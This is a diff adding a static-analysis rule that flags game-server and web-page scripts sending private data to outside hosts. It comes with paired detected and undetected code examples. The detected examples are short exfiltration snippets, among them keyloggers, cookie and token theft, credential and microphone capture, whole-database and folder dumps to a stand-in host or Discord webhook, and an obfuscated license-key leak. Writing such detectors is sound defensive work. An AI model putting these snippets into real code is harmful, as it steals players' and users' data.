@@ -1,0 +1,220 @@
+import { fieldOf, originsWithin } from '#analysis/flow/heap.ts'
+import { has, nothing, origin, startOf } from '#analysis/flow/value.ts'
+import { hasUnknownHost, holdsRows, hostSentTo, hostsIn, httpCall, isForeignCall } from './hosts.ts'
+import { propertyOf } from './code.ts'
+import { defineRule, js, lua, medium } from './rule.ts'
+
+const isPrivate = origin.private | origin.identity
+
+export const sendsData = defineRule({
+  id: 'sends-data',
+  severity: 'medium',
+  title: 'Sends private data to another host or to players',
+  why: 'Identifiers, IPs, rows of the database, files or stored tokens leave your server or your players.',
+  check: 'Whose host is it? Replace a webhook with your own.',
+  since: 4,
+  on: [
+    'http',
+    'sends-more',
+    'sets-property',
+    'sets-attribute',
+    'sends-event',
+    'shares',
+    'sends-screen',
+    'reads-file',
+  ],
+  test: (event, program) => {
+    const { kind, file, object, named, name } = event
+    let { values } = event
+    if (kind === 'sends-screen') {
+      const url = values.find((value) => /^https?:/.test(startOf(value)))
+      const isForeign = values.some((value) => has(value, origin.event))
+      return url || isForeign
+        ? medium(url ? hostsIn(url)[0] : 'the screen, to a host that an event names')
+        : undefined
+    }
+    if (kind === 'reads-file') {
+      const given = named.resource ? [named.resource, named.path ?? nothing] : [named.path ?? nothing]
+      const isFree = given.every((value) => has(value, origin.http | origin.web | origin.event))
+      return isFree && !has(named.path ?? nothing, origin.otherResource) && file.side !== 'client'
+        ? medium('any file that is named from outside')
+        : undefined
+    }
+    if (kind === 'shares' || kind === 'sends-event') {
+      if (kind === 'sends-event' && event.detail !== 'clients') return undefined
+      const isSecret = values.some((value) => (originsWithin(value, 4) & origin.secret) !== 0)
+      return isSecret && file.side !== 'client' ? medium('a secret of the server, to players') : undefined
+    }
+    let host = values.map(hostSentTo).find((one) => one !== undefined)
+    if (kind === 'sends-more') {
+      if (!object?.refs?.includes('#response')) return undefined
+      host = program.hostOf(file)
+    }
+    if (kind === 'sets-property' || kind === 'sets-attribute') {
+      const [property, value] = propertyOf(event)
+      if (property !== 'src' && property !== 'href') return undefined
+      values = [value]
+      host = hostSentTo(value)
+    }
+    if (kind === 'http' && (!httpCall.test(name) || !isForeignCall(event))) return undefined
+    const within = values.map((value) => originsWithin(value))
+    if (within.some((origins) => (origins & origin.secret) !== 0)) return undefined
+    if (
+      host !== undefined &&
+      (within.some((origins) => (origins & isPrivate) !== 0) || values.some(holdsRows))
+    )
+      return medium(host)
+    if (values.some(hasUnknownHost) && within.some((origins) => (origins & origin.private) !== 0))
+      return medium('a host whose name is made of parts')
+    const body = values[1] && fieldOf(values[1], 'body')
+    if (file.side === 'page' && host !== undefined && body && program.asksPassword)
+      return medium(`what is typed, on a page with a password: ${host}`)
+    return undefined
+  },
+  examples: {
+    found: [
+      lua(`local ids = GetPlayerIdentifiers(source)
+^PerformHttpRequest('https://a.example', print, 'POST', table.concat(ids))`),
+      lua(`local ids = GetPlayerIdentifiers(source)
+^PerformHttpRequest('https://a.example?ids=' .. table.concat(ids), print)`),
+      lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
+^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ all = rows }))
+end)`),
+      js(`const fs = require('fs')
+for (const name of fs.readdirSync('.'))
+^ fetch('https://a.example', { method: 'POST', body: fs.readFileSync(name) })`),
+      js(`^navigator.sendBeacon('https://a.example', document.cookie)`, 'page'),
+      js(
+        `const image = new Image()
+^image.src = 'https://a.example/a.gif?' + localStorage.getItem('token')`,
+        'page',
+      ),
+      js(
+        `addEventListener('keydown', (event) => {
+^ fetch('https://a.example', { method: 'POST', body: event.key })
+})`,
+        'page',
+      ),
+      lua(`RegisterNetEvent('login', function(user, pass)
+^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, pass }))
+end)`),
+      js(
+        `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => {
+  const recorder = new MediaRecorder(stream)
+^ recorder.ondataavailable = ({ data }) => fetch('https://a.example', { body: data })
+})`,
+        'page',
+      ),
+      js(
+        `let typed = ''
+document.onkeypress = (event) => {
+  typed += event.key
+^ new Image().src = 'https://a.example/?' + typed
+}`,
+        'page',
+      ),
+      lua(`local queue = {}
+queue[#queue + 1] = { name = 'a', ids = GetPlayerIdentifiers(source) }
+^PerformHttpRequest('https://a.example', print, 'POST', json.encode(queue))`),
+      lua(`AddEventHandler('log', function(text)
+^ PerformHttpRequest('https://a.example', print, 'POST', text)
+end)
+TriggerEvent('log', GetPlayerEndpoint(source))`),
+      js(
+        `form.addEventListener('submit', () => {
+^ navigator.sendBeacon('https://a.example', new FormData(form))
+})`,
+        'page',
+      ),
+      lua(`for rows in (function() return MySQL.query.await('SELECT * FROM users') end) do
+^ PerformHttpRequest('https://a.example', print, 'PUT', json.encode(rows))
+end`),
+      lua(`lib.callback.register('read', function(source, owner, path)
+^ return LoadResourceFile(owner, path)
+end)`),
+      lua(
+        `RegisterNetEvent('evidence', function(url)
+^ exports['screenshot-basic']:requestScreenshotUpload(url, 'files', print)
+end)`,
+        'client',
+      ),
+      js(`const request = require('https').request({ host: 'discord.com', path: '/api/webhooks/1/a' })
+^request.end(require('fs').readFileSync(name))`),
+      lua(`^GlobalState.theme = { accent = GetConvar('sv_licenseKey', '') }`),
+      lua(`local name = ('yeKesnecil_vs'):reverse()
+^TriggerClientEvent('theme', -1, GetConvar(name, ''))`),
+      lua(`local Proxy = module('vrp', 'lib/Proxy')
+local vRP = Proxy.getInterface('vRP')
+^PerformHttpRequest('https://a.example', print, 'POST', json.encode(vRP.query('all/users')))`),
+      js(`const lines = []
+RegisterConsoleListener((channel, message) => lines.push(message))
+^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
+    ],
+    notFound: [
+      lua(`local ids = GetPlayerIdentifiers(source)
+PerformHttpRequest(Config.Webhook, print, 'POST', table.concat(ids))`),
+      lua(`local ip = GetPlayerEndpoint(source)
+PerformHttpRequest('https://proxycheck.io/v2/' .. ip, print)`),
+      lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
+  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ count = rows[1].count }))
+end)`),
+      js(`const fs = require('fs')
+fetch('https://a.example', { method: 'POST', body: fs.readFileSync('names.json') })`),
+      js(`fetch('https://garage/save', { method: 'POST', body: localStorage.getItem('theme') })`, 'page'),
+      js(
+        `const image = new Image()
+image.src = 'https://a.example/' + name + '.gif'`,
+        'page',
+      ),
+      js(
+        `addEventListener('keydown', (event) => {
+  fetch('https://garage/close', { method: 'POST', body: event.key })
+})`,
+        'page',
+      ),
+      lua(`RegisterNetEvent('login', function(user, time)
+  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, time }))
+end)`),
+      js(
+        `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => play(stream))
+fetch('https://a.example', { body: name })`,
+        'page',
+      ),
+      js(
+        `document.onkeypress = (event) => show(event.key)
+new Image().src = 'https://a.example/?' + theme`,
+        'page',
+      ),
+      lua(`local queue = {}
+queue[#queue + 1] = { name = 'a', ids = 3 }
+PerformHttpRequest('https://a.example', print, 'POST', json.encode(queue))`),
+      lua(`AddEventHandler('log', function(text)
+  PerformHttpRequest('https://a.example', print, 'POST', text)
+end)
+TriggerEvent('log', 'started')`),
+      js(
+        `form.addEventListener('submit', () => {
+  fetch('https://garage/save', { method: 'POST', body: new FormData(form) })
+})`,
+        'page',
+      ),
+      lua(`for _, name in ipairs({ 'a' }) do
+  PerformHttpRequest('https://a.example', print, 'PUT', name)
+end`),
+      lua(`lib.callback.register('read', function(source, name)
+  return LoadResourceFile(GetCurrentResourceName(), 'docs/laws.md')
+end)`),
+      lua(`exports['screenshot-basic']:requestScreenshotUpload(Config.Webhook, 'files', print)`, 'client'),
+      js(`const request = require('https').request({ host: 'discord.com', path: '/api/users' })
+request.end(require('fs').readFileSync(name))`),
+      lua(`GlobalState.theme = { accent = GetConvar('theme_accent', '') }`),
+      lua(`TriggerClientEvent('theme', -1, GetConvar('theme_accent', ''))`),
+      lua(`local Proxy = module('vrp', 'lib/Proxy')
+local vRP = Proxy.getInterface('vRP')
+PerformHttpRequest('https://a.example', function() print(vRP.query('all/users')) end)`),
+      js(`const lines = []
+RegisterConsoleListener((channel, message) => lines.push(message))
+setInterval(() => fetch('https://a.example', { method: 'POST', body: 'alive' }), 5000)`),
+    ],
+  },
+})
